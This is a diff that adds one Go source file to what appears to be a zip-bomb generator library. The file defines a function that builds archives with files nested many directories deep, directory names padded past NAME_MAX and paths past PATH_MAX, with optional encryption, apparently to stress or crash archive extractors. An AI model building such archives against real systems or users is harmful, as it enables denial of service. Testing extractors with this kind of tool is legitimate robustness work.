@@ -0,0 +1,91 @@
+package zipbomb
+
+import (
+	"io/fs"
+	"strings"
+)
+
+type DeepNestingOptions struct {
+	OnFileCreateHook OnFileCreateHookFunc
+	Method           uint16
+	CompressionLevel int // Deflate [-2,9]
+
+	// DirName is the name of the directory at every level.
+	DirName string
+
+	// NameLength pads DirName to this length, e.g. beyond NAME_MAX.
+	NameLength int
+
+	// NoDirectories omits the explicit directory entries.
+	NoDirectories bool
+
+	// EncryptionOptions encrypt the file, but not the directories.
+	EncryptionOptions
+}
+
+// AddDeepNesting adds a file that is nested depth directories deep, preceded
+// by an explicit directory entry for every level. The path may exceed
+// PATH_MAX and the directory names NAME_MAX, but the whole name is limited
+// to 65535 bytes.
+func (zb *ZipBomb) AddDeepNesting(kernel Kernel, filename string, depth int, optFns ...func(o *DeepNestingOptions)) error {
+	opts := DeepNestingOptions{
+		CompressionLevel: 5,
+		Method:           Deflate,
+		DirName:          "d",
+	}
+
+	for _, fn := range optFns {
+		fn(&opts)
+	}
+
+	component := opts.DirName
+	if n := opts.NameLength - len(component); n > 0 {
+		component = component + strings.Repeat("d", n)
+	}
+
+	if depth*(len(component)+1)+len(filename) > uint16max {
+		return errLongName
+	}
+
+	dir := ""
+
+	for i := 0; i < depth; i++ {
+		dir = dir + component + "/"
+
+		if opts.NoDirectories {
+			continue
+		}
+
+		lfh := newFileHeader(0, 0, 0, dir, Store)
+		lfh.SetMode(fs.ModeDir | 0755)
+
+		if err := zb.writeFiles([]fileRecord{{header: lfh}}); err != nil {
+			return err
+		}
+
+		if opts.OnFileCreateHook != nil {
+			opts.OnFileCreateHook(lfh.Name)
+		}
+	}
+
+	k, err := zb.newKernel(dir+filename, kernel, opts.Method, opts.CompressionLevel)
+	if err != nil {
+		return err
+	}
+
+	files := []fileRecord{
+		{
+			header:     k.LocalFileHeader(),
+			data:       k.Data(),
+			encryption: opts.EncryptionOptions,
+		},
+	}
+
+	zb.uncompressedSize = zb.uncompressedSize + int64(k.UncompressedSize())
+
+	if opts.OnFileCreateHook != nil {
+		opts.OnFileCreateHook(k.Name())
+	}
+
+	return zb.writeFiles(files)
+}